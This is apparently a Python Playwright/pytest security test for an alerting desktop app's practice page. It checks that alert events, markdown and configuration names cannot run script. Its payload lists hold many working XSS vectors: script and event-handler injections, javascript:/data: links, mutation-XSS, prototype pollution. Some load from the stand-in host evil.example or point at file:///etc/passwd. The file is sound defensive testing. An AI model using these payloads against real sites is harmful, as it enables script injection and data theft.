"""Events that try to run something in the page of whoever looks at them: in every field, and by the configuration."""

import json
from collections.abc import Iterator
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Dialog, expect

from ilert_desktop.practice.configuration import (
    Configuration,
    EscalationLevel,
    EscalationPolicy,
    Person,
    PracticeSource,
)
from ilert_desktop.practice.page.markdown import to_html
from ilert_desktop.practice.state import Page, Reasons
from tests.rig.browser import BrowserPage, browser_page
from tests.rig.practice_page import PageServer, page_server

# A machine that runs the whole suite at once is slow.

_HIT: Final = "window.hit=1;alert(1)"
_ATTACKS: Final = (
    f"<script>{_HIT}</script>",
    "<script src=http://evil.example/x.js></script>",
    f'"><img src=x onerror="{_HIT}">',
    f"'><svg onload='{_HIT}'><animate onbegin='{_HIT}' attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_HIT}>",
    f"<iframe srcdoc='<script>parent.hit=1</script>'></iframe><iframe src=javascript:{_HIT}>",
    f"<body onload={_HIT}><input autofocus onfocus={_HIT}><details open ontoggle={_HIT}>",
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/y.css';</style>",
    f"<a href='javascript:{_HIT}'>press</a><form action=http://evil.example/><button>press</button></form>",
    f"</title></style></textarea></noscript></template><script>{_HIT}</script>",
    f"&lt;script&gt;{_HIT}&lt;/script&gt; &#60;img src=x onerror={_HIT}&#62;",
    f"{{{{constructor.constructor('{_HIT}')()}}}} ${{{_HIT}}} `{_HIT}`",
    "<template><script>hit=1</script></template><object data=http://evil.example/><embed src=http://evil.example/>",
    "\u202egnp.exe\u2066 \u0000 \u2028 \ufeff",
)
_MARKDOWN: Final = (
    f"[press](javascript:{_HIT})",
    f"[press](JaVaScRiPt:{_HIT})",
    f"[press](java&#115;cript:{_HIT})",
    f"[press](java&Tab;script&colon;{_HIT})",
    f"[press](\u0001javascript:{_HIT})",
    f"[press](vbscript:{_HIT})",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](data:image/svg+xml,<svg onload=alert(1)>)",
    f'![image](x"onerror="{_HIT})',
    f"![image](javascript:{_HIT})",
    f'[press](http://a.example "title" onmouseover="{_HIT}")',
    f"<javascript:{_HIT}>",
    "<http://a.example/<script>alert(1)</script>>",
    f"[press][ref]\n\n[ref]: javascript:{_HIT}",
    "[press](/page/alerts/1/resolve) [press](//evil.example/) ![image](//evil.example/i.png) [press](#alert-2)",
    f"`<script>{_HIT}</script>`\n\n```html\n<script>{_HIT}</script>\n```",
    f"| <script>{_HIT}</script> | <img src=x onerror={_HIT}> |\n|-|-|\n| <svg onload={_HIT}> | x |",
    f"# <img src=x onerror={_HIT}>\n> <iframe src=javascript:{_HIT}>\n\n- <math href=javascript:{_HIT}>",
)
_ADDRESSES: Final = (
    f"javascript:{_HIT}",
    f" java\tscript:{_HIT}",
    f"data:text/html,<script>{_HIT}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    f"vbscript:{_HIT}",
    "//evil.example/x",
    "/page/alerts/1/resolve",
    "blob:http://evil.example/x",
    "file:///etc/passwd",
    f'https://img.example/"onerror="{_HIT}',
)
_ALL: Final = (*_ATTACKS, *_MARKDOWN, *_ADDRESSES)
# What an alert declares may be asked for, and an image is.
_DECLARED: Final = {"img.example", "a.example"}


def _hostile_configuration() -> Configuration:
    evil = " ".join(_ATTACKS)
    people = (Person(name=evil, by=(evil,)),)
    policies = (EscalationPolicy(id=1, name=evil, routing_key=evil, levels=(EscalationLevel(people=(evil,)),)),)
    sources = (PracticeSource(id=1, name=evil, key="k'\"<script>", policy=1),)
    return Configuration(sources=sources, policies=policies, people=people, support_hours=(), per_minute=0)


@pytest.fixture
def server() -> Iterator[PageServer]:
    with page_server(_hostile_configuration()) as running:
        yield running


def _nested(texts: tuple[str, ...]) -> dict[str, Any]:
    nested: dict[str, Any] = {text: text for text in texts}
    nested["list"] = [*texts, {"__proto__": {"hit": 1}, "constructor": texts[0]}]
    return nested


def _attack(server: PageServer, event_type: str, key: str) -> None:
    server.send(
        event_type,
        alertKey=key,
        summary=" ".join(_ALL),
        details="\n\n".join(_ALL),
        priority="HIGH",
        routingKey=" ".join(_ATTACKS),
        images=[{"src": text, "href": text, "alt": text} for text in _ALL],
        links=[*({"href": text, "text": text} for text in _ALL), *({"href": text} for text in _ALL)],
        labels={text: text for text in _ALL},
        services=[{"alias": text} for text in _ALL],
        comments=[{"creator": text, "content": text} for text in _ALL],
        customDetails=_nested(_ALL),
        unknown=_nested(_ALL),
    )


def _watch_dialogs(opened: BrowserPage) -> list[str]:
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    opened.page.on("dialog", note)
    return dialogs


def _assert_nothing_ran(opened: BrowserPage, dialogs: list[str]) -> None:
    opened.settle()
    page = opened.page
    assert page.evaluate("[window.hit, Object.prototype.hit]") == [None, None]
    assert dialogs == []
    assert opened.page_errors == []
    # An image that does not load is told so, too.
    assert [error for error in opened.console_errors if "Failed to load resource" not in error] == []
    assert {urlsplit(url).hostname for url in opened.foreign_requests} <= _DECLARED
    found = page.evaluate(
        """[...document.querySelectorAll("#detail *, #list *")].flatMap((element) =>
            [...element.attributes].map(({ name, value }) => [element.localName, name, value]))"""
    )
    assert [attribute for attribute in found if attribute[1].startswith("on") or attribute[1] == "style"] == []
    led = [value for _, name, value in found if name in {"href", "src", "action", "formaction", "xlink:href"}]
    assert {urlsplit(value).scheme for value in led} <= {"http", "https", "mailto", ""}
    assert [
        value for value in led if not urlsplit(value).scheme and not value.startswith("#alert-") and value != "#"
    ] == []
    assert (
        page.locator("#main :is(script, style, iframe, object, embed, form, base, meta, link, math, template)").count()
        == 0
    )


def test_nothing_runs_whatever_the_events_hold(server: PageServer) -> None:
    evil = " ".join(_ALL)
    keys = [" ".join(_ATTACKS), "k"]
    for event_type in ("ALERT", "ALERT", "COMMENT", "ACCEPT", "RESOLVE"):
        _attack(server, event_type, keys[0])
    _attack(server, "ALERT", keys[1])
    for event_type in ("ACCEPT", "COMMENT", "RESOLVE"):
        _attack(server, event_type, f"no match {keys[0]}")
    reasons = Reasons(opened=evil, priority=evil, policy=evil, paged=evil)
    server.dress(2, (Page(name=evil, by=(evil, evil), after_minutes=0),), reasons)
    with browser_page(server.page) as opened:
        dialogs = _watch_dialogs(opened)
        page = opened.page
        expect(page.locator("#list li")).to_have_count(1)
        page.get_by_role("button", name="All", exact=True).click()
        expect(page.locator("#list li")).to_have_count(2)
        for number in (1, 2):
            page.evaluate(f"location.hash = '#alert-{number}'")
            expect(page.locator("#detail .badges")).to_contain_text(f"#{number}")
            _open_all(opened)
            _assert_nothing_ran(opened, dialogs)
        page.evaluate("location.hash = '#without-alert'")
        expect(page.locator(".log > li")).to_have_count(3)
        _open_all(opened)
        # A new one while the page is open: the title, the announcement, and the row.
        _attack(server, "ALERT", "live")
        expect(page.locator("#list li")).to_have_count(3)
        expect(page.locator("#said")).to_contain_text("New HIGH alert 3")
        _assert_nothing_ran(opened, dialogs)


def _open_all(opened: BrowserPage) -> None:
    page = opened.page
    page.evaluate("document.querySelectorAll('#detail details').forEach((fold) => { fold.open = true; })")
    buttons = page.locator("#detail button").filter(has_text="Show all")
    buttons.evaluate_all("(buttons) => buttons.forEach((button) => button.click())")
    expect(buttons).to_have_count(0)
    page.evaluate("document.querySelectorAll('#detail img').forEach((image) => { image.loading = 'eager'; })")


@pytest.mark.parametrize("text", [*_ATTACKS, *_MARKDOWN, *_ADDRESSES], ids=range(len(_ALL)))
def test_markdown_becomes_harmless_html(text: str) -> None:
    html = to_html(text).lower()

    for word in ("<script", "<iframe", "<svg", "<math", "<style", "<form", "<input", "<object", "<base", "<meta"):
        assert word not in html
    for word in (
        'href="javascript',
        'href="data',
        'href="vbscript',
        'src="data',
        'src="javascript',
        'href="/',
        'src="/',
    ):
        assert word not in html


def test_markdown_keeps_what_is_meant() -> None:
    text = "# T\n\n**b** *i* ~~s~~ `c`\n\n1. one\n\n> q\n\n[l](https://x.example) ![a](https://x.example/i.png)\n\n|h|\n|-|\n|d|"

    html = to_html(text)

    for tag in ("<h1>", "<strong>", "<em>", "<s>", "<code>", "<ol>", "<blockquote>", "<table>", "<th>"):
        assert tag in html
    assert 'rel="noopener noreferrer"' in html
    assert 'referrerpolicy="no-referrer"' in html


def test_a_hostile_name_stays_text_where_it_is_given_out(server: PageServer) -> None:
    setup = server.http.get("/page/setup")

    assert setup.headers["content-type"].startswith("application/json")
    assert json.loads(setup.text)["sources"][0]["name"] == " ".join(_ATTACKS)
